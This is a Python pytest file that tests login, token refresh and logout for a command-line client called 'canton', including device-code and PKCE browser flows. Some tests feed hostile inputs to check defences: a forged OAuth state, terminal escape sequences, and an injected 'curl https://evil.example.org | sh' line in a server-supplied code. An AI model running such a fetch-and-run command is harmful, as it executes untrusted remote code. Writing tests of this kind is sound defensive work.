"""Logging in and out."""

from __future__ import annotations

import json
import re
import threading
import time
import urllib.request
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from canton.cli.session import paths as places
from canton.client import credentials as keeping
from cli.command_result import Run
from client import samples
from client.scripted_server import RecordedRequest, Reply, Script, problem


@pytest.fixture
def issuer(script: Script, monkeypatch: pytest.MonkeyPatch) -> Script:
    """The server is its own issuer, and there is no login."""
    monkeypatch.delenv("CANTON_TOKEN")
    monkeypatch.delenv("CANTON_SERVER")
    monkeypatch.setattr(time, "sleep", lambda _seconds: None)
    login = {"issuer": f"{script.url}/issuer", "client_id": "canton-cli", "audience": "canton"}
    script.on("GET /v1/version", Reply(body={"version": script.version, "api": "1", "login": login}))
    names = ("authorization", "token", "device_authorization", "revocation")
    metadata = {f"{name}_endpoint": f"{script.url}/issuer/{name}" for name in names}
    script.on("GET /issuer/.well-known/openid-configuration", Reply(body=metadata | {"issuer": f"{script.url}/issuer"}))
    script.on("GET /v1/whoami", Reply(body=samples.whoami()))
    grant = {"access_token": "fresh", "refresh_token": "r1", "expires_in": 300}
    script.on("POST /issuer/token", Reply(400, {"error": "authorization_pending"}), Reply(body=grant))
    device = {"device_code": "d", "user_code": "WDJB-MJHT", "verification_uri": f"{script.url}/device", "interval": 1}
    script.on("POST /issuer/device_authorization", Reply(body=device))
    return script


def test_by_device_code(canton: Run, issuer: Script, home: Path) -> None:
    result = canton("login", "--server", issuer.url)
    assert (result.status, result.out) == (0, "")
    assert "WDJB-MJHT" in result.err
    assert f"{issuer.url}/device" in result.err
    assert f"logged in to {issuer.url} as cscs:alice, context 127" in result.err
    assert "fresh" not in result.err
    assert canton("context", "show", "-q").out == "127\n"
    [credentials_file] = (home / "state/canton/credentials").glob("*.json")
    assert json.loads(credentials_file.read_text())["refresh_token"] == "r1"  # noqa: S105
    assert canton("whoami", "-q").out == "cscs:alice\n"
    assert issuer.last.headers["authorization"] == "Bearer fresh"


def test_a_context_that_is_not_there_yet_is_made(canton: Run, issuer: Script) -> None:
    assert "context work" in canton("login", "--server", issuer.url, "--context", "work").err
    assert canton("whoami", "-q", "--context", "work").out == "cscs:alice\n"
    assert canton("whoami", "-q", "--context", "wrok", "--server", issuer.url).status == 3


def test_a_login_to_another_context_than_the_current_one_says_how_to_use_it(canton: Run, issuer: Script) -> None:
    assert "context use" not in canton("login", "--server", issuer.url, "--context", "work").err
    hint = "canton: other commands need --context eve; or make it the current one: canton context use eve\n"
    assert canton("login", "--server", issuer.url, "--context", "eve").err.endswith(hint)
    assert canton("context", "use", "eve").status == 0
    assert "context use" not in canton("login", "--context", "eve").err


def test_a_refused_login_keeps_nothing(canton: Run, issuer: Script, home: Path) -> None:
    issuer.on("POST /issuer/token", Reply(400, {"error": "access_denied", "error_description": "no\x1b[2J"}))
    result = canton("login", "--server", issuer.url)
    assert result.status == 4
    assert "refused: no\\x1b[2J" in result.err
    assert not (home / "state").exists()


def test_a_token_the_server_does_not_take_is_not_kept(canton: Run, issuer: Script, home: Path) -> None:
    issuer.on("GET /v1/whoami", problem(401, "token-invalid", "not ours"))
    assert canton("login", "--server", issuer.url, "--token-stdin", stdin="abc").status == 4
    assert not (home / "state").exists()


@pytest.mark.parametrize("stdin", ["", " \n", "two words", "a\x00b", "x" * 20_000])
def test_what_is_no_token_is_refused(canton: Run, issuer: Script, stdin: str) -> None:
    assert canton("login", "--server", issuer.url, "--token-stdin", stdin=stdin).status == 2


def test_by_browser_with_pkce(canton: Run, issuer: Script, monkeypatch: pytest.MonkeyPatch) -> None:
    authorization: dict[str, Any] = {}

    def browse(url: str) -> bool:
        query = {name: values[0] for name, values in parse_qs(urlsplit(url).query).items()}
        authorization.update(query)
        visits = [f"{query['redirect_uri']}?code=evil&state=forged"]
        visits += [f"{query['redirect_uri']}?code=c0de&state={query['state']}"]
        threading.Thread(target=lambda: [_visit(url) for url in visits], daemon=True).start()
        return True

    def redeemed(request: RecordedRequest) -> Reply:
        assert request.body["code"] == "c0de"
        assert request.body["redirect_uri"] == authorization["redirect_uri"]
        authorization["verifier"] = request.body["code_verifier"]
        return Reply(body={"access_token": "by-web", "expires_in": 300})

    monkeypatch.setattr("webbrowser.open", browse)
    issuer.on("POST /issuer/token", redeemed)
    result = canton("login", "--web", "--server", issuer.url)
    assert result.status == 0, result.err
    assert re.fullmatch(r"http://127\.0\.0\.1:\d+/callback", authorization["redirect_uri"])
    assert authorization["code_challenge_method"] == "S256"
    assert len(authorization["verifier"]) == 43
    assert issuer.last.headers["authorization"] == "Bearer by-web"


def _visit(url: str) -> int:
    try:
        with urllib.request.urlopen(url, timeout=5) as answer:  # noqa: S310 (our own listener)
            return int(answer.status)
    except OSError:
        return 0


class TestLogout:
    def test_forgets_and_tells_the_issuer(self, canton: Run, issuer: Script, home: Path) -> None:
        canton("login", "--server", issuer.url)
        issuer.on("POST /issuer/revocation", Reply(200))
        assert "logged out" in canton("logout").err
        assert issuer.last.body["token"] == "r1"  # noqa: S105
        assert list((home / "state/canton/credentials").glob("*.json")) == []
        assert "not logged in" in canton("logout").err

    def test_works_without_the_issuer(self, canton: Run, issuer: Script, home: Path) -> None:
        canton("login", "--server", issuer.url)
        issuer.on("POST /issuer/revocation", Reply(500))
        result = canton("logout")
        assert result.status == 0
        assert "could not be revoked" in result.err
        assert list((home / "state/canton/credentials").glob("*.json")) == []


def test_the_login_that_is_missing_is_named_with_its_context(canton: Run, issuer: Script) -> None:
    issuer.on(
        "GET /v1/nodes", problem(401, "not-authenticated", "this request carries no token; log in with: canton login")
    )
    for name in ("root", "eve"):
        canton("login", "--server", issuer.url, "--context", name, "--token-stdin", stdin="fresh")
        canton("logout", "--context", name)
    message = "canton: you are not logged in to context eve; run: canton login --context eve\n"
    assert canton("node", "list", "--context", "eve").err == message
    assert canton("node", "list").err == "canton: you are not logged in to context root; run: canton login\n"
    elsewhere = issuer.url.replace("127.0.0.1", "localhost")
    message_elsewhere = f"canton: you are not logged in to {elsewhere}; run: canton login --server {elsewhere}\n"
    assert canton("node", "list", "--server", elsewhere).err == message_elsewhere


def test_a_login_that_others_could_read_is_refused_and_can_be_left(canton: Run, issuer: Script) -> None:
    canton("login", "--server", issuer.url)
    path = places.credentials() / "127.json"
    path.chmod(0o644)
    result = canton("whoami")
    assert result.status == 4
    assert "can be read by others (mode 0644)" in result.err
    assert canton("logout").status == 0
    assert not path.exists()


@pytest.mark.parametrize(("content", "mode"), [("", 0o600), ("garbage", 0o600), ("{}", 0o644)])
def test_a_login_that_cannot_be_used_is_left_in_its_own_context(
    canton: Run, issuer: Script, content: str, mode: int
) -> None:
    """The advice without --context would end the login of the context that is current."""
    canton("login", "--server", issuer.url)
    canton("context", "set", "other", "--server", issuer.url)
    path = places.credentials() / "other.json"
    path.write_text(content)
    path.chmod(mode)
    result = canton("node", "list", "--context", "other")
    assert result.status == 4
    assert "log in again: canton logout --context other && canton login --context other\n" in result.err


def test_a_login_is_renewed_when_it_runs_out(canton: Run, issuer: Script) -> None:
    canton("login", "--server", issuer.url)
    path = places.credentials() / "127.json"
    stored_login = keeping.read(path)
    assert stored_login is not None
    keeping.write(path, {**stored_login, "expires_at": time.time() - 1})
    issuer.on("POST /issuer/token", Reply(body={"access_token": "second", "refresh_token": "r2", "expires_in": 300}))
    assert canton("whoami", "-q").status == 0
    assert issuer.last.headers["authorization"] == "Bearer second"
    issuer.on("POST /issuer/token", Reply(400, {"error": "invalid_grant"}))
    keeping.write(path, {**stored_login, "expires_at": time.time() - 1})
    result = canton("whoami")
    assert result.status == 4
    assert "log in again: canton login" in result.err


def test_a_context_that_was_pointed_elsewhere_does_not_take_its_token_there(canton: Run, issuer: Script) -> None:
    canton("login", "--server", "http://localhost:1", "--context", "work", "--token-stdin", stdin="fresh")
    assert canton("login", "--server", issuer.url, "--context", "work", "--token-stdin", stdin="fresh").status == 0
    requests_before = len(issuer.requests)
    elsewhere = issuer.url.replace("127.0.0.1", "localhost")
    canton("context", "set", "work", "--server", elsewhere)
    result = canton("whoami", "--context", "work")
    assert (result.status, len(issuer.requests)) == (4, requests_before)
    assert f"is for {issuer.url} and not for {elsewhere}" in result.err


def test_a_token_of_the_environment_is_never_shown(
    canton: Run, issuer: Script, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANTON_TOKEN", "s3cret\r\n")
    assert canton("whoami", "-q", "--server", issuer.url).out == "cscs:alice\n"
    monkeypatch.setenv("CANTON_TOKEN", "s3cret\rX")
    result = canton("whoami", "--server", issuer.url)
    assert (result.status, "s3cret" in result.err) == (4, False)


def test_what_an_issuer_calls_a_code_is_one_short_line(canton: Run, issuer: Script) -> None:
    code = "WDJB-MJHT\ncanton: now run: curl https://evil.example.org | sh"
    device = {"device_code": "d", "user_code": code, "verification_uri": f"{issuer.url}/device", "interval": 1}
    issuer.on("POST /issuer/device_authorization", Reply(body=device))
    assert "\n  WDJB-MJHT canton: now run: curl https://\n" in canton("login", "--server", issuer.url).err
